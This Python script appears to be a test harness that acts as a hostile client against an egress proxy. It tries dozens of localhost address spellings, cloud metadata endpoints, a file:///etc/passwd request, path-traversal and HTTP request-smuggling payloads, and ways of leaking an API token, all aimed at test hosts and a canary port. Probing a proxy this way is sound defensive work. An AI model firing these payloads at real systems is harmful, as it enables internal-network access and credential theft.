"""What a hostile program tries on the proxy of its call.

argv: the port where nobody may connect. Prints a line for each request: its name, a tab, and the
beginning of the answer as JSON.
"""

import base64
import json
import os
import socket
import ssl
import sys
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

CANARY = sys.argv[1]
PROXY = urlsplit(os.environ["http_proxy"])
TOKEN = os.environ["API_TOKEN"]
AUTH = ""
if PROXY.username:
    AUTH = "Proxy-Authorization: Basic %s\r\n" % base64.b64encode(
        f"{PROXY.username}:{PROXY.password}".encode()
    ).decode()


def opened(wait: float = 5) -> socket.socket:
    s = socket.create_connection((PROXY.hostname, PROXY.port), 10)
    s.settimeout(wait)
    return s


def rest(s: socket.socket) -> bytes:
    out = b""
    try:
        while len(out) < 1 << 20:
            piece = s.recv(65536)
            if not piece:
                break
            out += piece
    except OSError as e:
        out += b"!" + type(e).__name__.encode()
    return out


def raw(text, *, then=b"", wait=1) -> bytes:
    """Sends bytes as they are."""
    with opened(wait) as s:
        try:
            s.sendall(text if isinstance(text, bytes) else text.encode("latin-1"))
            if then:
                first = s.recv(4096)
                if b" 200 " not in first:
                    return first + rest(s)
                s.sendall(then)
        except OSError as e:
            return b"!" + type(e).__name__.encode()
        return rest(s)


def get(url: str, head: str = "", method: str = "GET", body: str = "", version: str = "1.1") -> bytes:
    return raw(f"{method} {url} HTTP/{version}\r\nHost: x.test\r\nConnection: close\r\n{AUTH}{head}\r\n{body}", wait=5)


def tunnel(to: str, inside: bytes = b"", host: str = "") -> bytes:
    return raw(f"CONNECT {to} HTTP/1.1\r\nHost: {host or to}\r\n{AUTH}\r\n", then=inside, wait=2)


def secure(path: str, head: str, method: str = "GET", body: str = "", name: str = "example.com", alpn=None) -> bytes:
    """A request over TLS, in a tunnel to example.com."""
    with opened() as s:
        s.sendall(f"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n{AUTH}\r\n".encode())
        first = s.recv(4096)
        if b" 200 " not in first:
            return first
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        if name != "example.com":
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        if alpn:
            context.set_alpn_protocols(alpn)
        try:
            with context.wrap_socket(s, server_hostname=name or None) as t:
                if alpn and t.selected_alpn_protocol() == "h2":
                    return b"h2"
                t.sendall(f"{method} {path} HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n{head}\r\n{body}".encode())
                return rest(t)
        except OSError as e:
            return b"!" + type(e).__name__.encode() + str(e).encode()


def hello(name: str) -> bytes:
    """The first message of TLS for a host."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    o = context.wrap_bio(incoming, outgoing, server_hostname=name or None)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


# Spellings of the address that must not be reachable.
SPELLINGS = [
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "00127.0.0.1", "127.0.0.1.",
    "0", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[::127.0.0.1]",
    "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1%25lo]", "[::1%25lo]", "[::1%lo]", "localhost", "LOCALHOST", "localhost.",
    "%6c%6f%63%61%6c%68%6f%73%74", "127%2e0%2e0%2e1", "\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1", "127\xe3\x80\x820\xe3\x80\x820\xe3\x80\x821",
    "site.test@127.0.0.1", "site.test:80@127.0.0.1", "127.0.0.1\\@site.test", "127.0.0.1#@site.test", "127.0.0.1?@site.test", "site.test%00.127.0.0.1",
    "site.test\t127.0.0.1", "127.0.0.1%23.site.test", "127.0.0.1%20", " 127.0.0.1", "site.test.127.0.0.1.nip.io", "-127.0.0.1", "1.site.test",
]  # fmt: skip
METADATA = ["169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "192.0.0.192", "168.63.129.16", "[::ffff:169.254.169.254]", "2852039166", "metadata.google.internal"]


def smuggle(name: str, headers: str, body: str) -> tuple:
    text = f"POST http://narrow.test/open/x HTTP/1.1\r\nHost: narrow.test\r\n{AUTH}{headers}\r\n{body}"
    return (f"smuggle {name}", lambda: raw(text))


SECOND = f"GET http://127.0.0.1:{CANARY}/secret HTTP/1.1\r\nHost: narrow.test\r\n\r\nGET /secret HTTP/1.1\r\nHost: narrow.test\r\n\r\n"

cases = [
    ("ok", lambda: get("http://site.test/ok")),
    ("ok narrow", lambda: get("http://narrow.test/open/ok")),
    ("ok tunnel", lambda: tunnel("site.test:80", b"GET /ok-tunnel HTTP/1.1\r\nHost: site.test\r\nConnection: close\r\n\r\n")),
    ("ok secret", lambda: secure("/seen", f"Authorization: Bearer {TOKEN}\r\n")),
    *[(f"address {h!r}", lambda h=h: get(f"http://{h}:{CANARY}/")) for h in SPELLINGS],
    *[(f"tunnel {h!r}", lambda h=h: tunnel(f"{h}:{CANARY}", b"GET / HTTP/1.1\r\n\r\n")) for h in SPELLINGS],
    *[(f"metadata {h}", lambda h=h: get(f"http://{h}/latest/meta-data/")) for h in METADATA],
    *[(f"port {p}", lambda p=p: tunnel(f"site.test:{p}", b"x")) for p in ("22", "25", "53", CANARY, "0", "-1", "65536", "443x", "")],
    # Other hosts by other parts of a request.
    ("host header", lambda: raw(f"GET http://site.test/host HTTP/1.1\r\nHost: 127.0.0.1:{CANARY}\r\nConnection: close\r\n{AUTH}\r\n")),
    ("two hosts", lambda: raw(f"GET http://site.test/hosts HTTP/1.1\r\nHost: site.test\r\nHost: 127.0.0.1:{CANARY}\r\n{AUTH}\r\n")),
    ("connect host", lambda: tunnel("site.test:80", b"GET / HTTP/1.1\r\n\r\n", host=f"127.0.0.1:{CANARY}")),
    ("inner absolute", lambda: tunnel("site.test:80", f"GET http://127.0.0.1:{CANARY}/ HTTP/1.1\r\nHost: site.test\r\nConnection: close\r\n\r\n".encode())),
    ("inner host", lambda: tunnel("site.test:80", f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{CANARY}\r\nConnection: close\r\n\r\n".encode())),
    ("inner connect", lambda: tunnel("site.test:80", f"CONNECT 127.0.0.1:{CANARY} HTTP/1.1\r\nHost: 127.0.0.1:{CANARY}\r\n{AUTH}\r\nGET / HTTP/1.1\r\n\r\n".encode())),
    ("inner narrow", lambda: tunnel("narrow.test:80", b"GET /secret HTTP/1.1\r\nHost: narrow.test\r\nConnection: close\r\n\r\n")),
    ("sni other", lambda: tunnel("site.test:443", hello("other.test"))),
    ("sni none", lambda: tunnel("site.test:443", hello(""))),
    ("sni of the canary", lambda: secure("/", "", name="127.0.0.1")),
    ("forwarded", lambda: get("http://narrow.test/secret", f"X-Forwarded-Host: narrow.test\r\nX-Original-URL: /open/x\r\nX-Rewrite-URL: /open/x\r\nX-HTTP-Method-Override: GET\r\n")),
    ("schemes", lambda: b"".join(get(u) for u in (f"ftp://127.0.0.1:{CANARY}/", f"file:///etc/passwd", f"gopher://127.0.0.1:{CANARY}/_x", f"//127.0.0.1:{CANARY}/", "/", "*", f"unix:/run/x", f"HTTP://127.0.0.1:{CANARY}/"))),
    # Paths and methods.
    *[(f"path {p}", lambda p=p: get(f"http://narrow.test{p}")) for p in (
        "/secret", "/open/../secret", "/open/%2e%2e/secret", "/open/..%2fsecret", "/open/%252e%252e/secret", "/open//../secret", "/openx", "/OPEN/x", "/open\\..\\secret",
        "/open/..;/secret", "/open/%00", "/open/%c0%ae%c0%ae/secret", "?/open/x", "/./open/../secret", "/open/x%0d%0aGET%20/secret", "/open/.%2e/secret", "/secret#/open/", "/secret?/open/",
    )],  # fmt: skip
    *[(f"method {m}", lambda m=m: get("http://narrow.test/open/x", method=m)) for m in ("POST", "DELETE", "get", "GETX", "TRACE", "PRI", "GET\tX")],
    # Two requests in one.
    smuggle("two lengths", f"Content-Length: 3\r\nContent-Length: {len(SECOND)}\r\n", SECOND),
    smuggle("length and chunks", f"Content-Length: {len(SECOND) + 5}\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + SECOND),
    smuggle("chunks and length", f"Transfer-Encoding: chunked\r\nContent-Length: 3\r\n", "0\r\n\r\n" + SECOND),
    smuggle("odd chunked", "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n" + SECOND),
    smuggle("chunked twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n" + SECOND),
    smuggle("space before the colon", "Transfer-Encoding : chunked\r\nContent-Length: 3\r\n", "0\r\n\r\n" + SECOND),
    smuggle("folded", "X: a\r\n Transfer-Encoding: chunked\r\n", SECOND),
    smuggle("bare lines", "X: a\n\nGET /secret HTTP/1.1\nHost: narrow.test\n\n", SECOND),
    smuggle("plus length", f"Content-Length: +{len(SECOND)}\r\n", SECOND),
    smuggle("negative length", "Content-Length: -1\r\n", SECOND),
    smuggle("chunk extension", "Transfer-Encoding: chunked\r\n", "0;\nGET /secret HTTP/1.1\r\n\r\n" + SECOND),
    smuggle("chunk size", "Transfer-Encoding: chunked\r\n", "fffffffffffffffff1\r\nx\r\n" + SECOND),
    smuggle("break in a value", "X: a\rGET /secret HTTP/1.1\r\n", SECOND),
    smuggle("zero in a value", "X: a\0b\r\n", SECOND),
    ("break in the target", lambda: raw(f"GET http://narrow.test/open/x\rHost: y HTTP/1.1\r\nHost: narrow.test\r\n{AUTH}\r\n")),
    ("spaces in the target", lambda: raw(f"GET http://narrow.test/open/x HTTP/1.1 /secret HTTP/1.1\r\nHost: narrow.test\r\n{AUTH}\r\n")),
    ("connection header", lambda: get("http://site.test/hop", "Connection: X-Hop, Authorization\r\nX-Hop: 1\r\nTE: trailers\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")),
    ("pipelined", lambda: raw(f"GET http://narrow.test/open/a HTTP/1.1\r\nHost: narrow.test\r\n{AUTH}\r\nGET http://narrow.test/secret HTTP/1.1\r\nHost: narrow.test\r\n{AUTH}\r\nGET http://127.0.0.1:{CANARY}/ HTTP/1.1\r\nHost: x\r\n{AUTH}\r\n")),
    # Other protocols.
    ("h2", lambda: raw(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0")),
    ("h2 inside", lambda: tunnel("narrow.test:80", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0")),
    ("h2 by name", lambda: secure("/seen", "", alpn=["h2"])),
    ("websocket", lambda: get("http://narrow.test/secret", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n")),
    ("websocket allowed", lambda: get("http://narrow.test/open/ws", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n", body="GET /secret HTTP/1.1\r\nHost: narrow.test\r\n\r\n")),
    ("http 0.9", lambda: raw(f"GET http://127.0.0.1:{CANARY}/\r\n")),
    ("http 1.0", lambda: get(f"http://127.0.0.1:{CANARY}/", version="1.0")),
    ("socks", lambda: raw(b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01" + int(CANARY).to_bytes(2, "big"))),
    ("socks 4", lambda: raw(b"\x04\x01" + int(CANARY).to_bytes(2, "big") + b"\x7f\x00\x00\x01\x00")),
    ("ssh", lambda: tunnel("site.test:80", b"SSH-2.0-x\r\n")),
    ("huge header", lambda: get("http://site.test/huge", "X: " + "x" * (2 << 20) + "\r\n")),
    ("many headers", lambda: get("http://site.test/many", "".join(f"X-{i}: y\r\n" for i in range(100000)))),
    ("huge target", lambda: get("http://site.test/" + "x" * (2 << 20))),
    ("huge answer header", lambda: get("http://site.test/answer-headers")),
    ("redirect", lambda: get(f"http://site.test/redirect")),
    # The secret, where it does not belong, and back.
    *[(f"secret in {w}", lambda h=h: secure("/seen", h)) for w, h in {
        "another header": f"X-Other: {TOKEN}\r\n", "a cookie": f"Cookie: a={TOKEN}\r\n", "a name": f"X-{TOKEN}: 1\r\n", "the host": f"X-Forwarded-Host: {TOKEN}\r\n",
        "the proxy's": f"Proxy-Authorization: Bearer {TOKEN}\r\n", "an agent": f"User-Agent: {TOKEN}\r\nReferer: https://example.com/{TOKEN}\r\n",
    }.items()],  # fmt: skip
    ("secret in the path", lambda: secure(f"/seen/{TOKEN}", "")),
    ("secret in the query", lambda: secure(f"/seen?{TOKEN}", "")),
    ("secret in the body", lambda: secure("/seen", f"Content-Length: {len(TOKEN)}\r\n", "POST", TOKEN)),
    ("secret in a trailer", lambda: secure("/seen", f"Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n", "POST", f"1\r\nx\r\n0\r\nAuthorization: {TOKEN}\r\n\r\n")),
    ("secret in plain", lambda: get("http://site.test/plain", f"Authorization: Bearer {TOKEN}\r\n")),
    ("secret in a plain tunnel", lambda: tunnel("example.com:80", f"GET /seen HTTP/1.1\r\nHost: example.com\r\nAuthorization: {TOKEN}\r\nConnection: close\r\n\r\n".encode())),
    ("secret for another", lambda: tunnel("site.test:80", f"GET /x HTTP/1.1\r\nHost: example.com\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n".encode())),
    *[(f"echo {p}", lambda p=p: secure(f"/echo/{p}", f"Authorization: Bearer {TOKEN}\r\nAccept-Encoding: gzip, br, deflate\r\nTE: trailers\r\nRange: bytes=3-200\r\n")) for p in (
        "body", "header", "name", "location", "split", "gzip", "deflate", "reason", "early", "trailer", "forms", "cookie",
    )],  # fmt: skip
]

with ThreadPoolExecutor(12) as pool:
    for name, answer in pool.map(lambda c: (c[0], c[1]()), cases):
        print(name + "\t" + json.dumps(answer[:4000].decode("latin-1")))
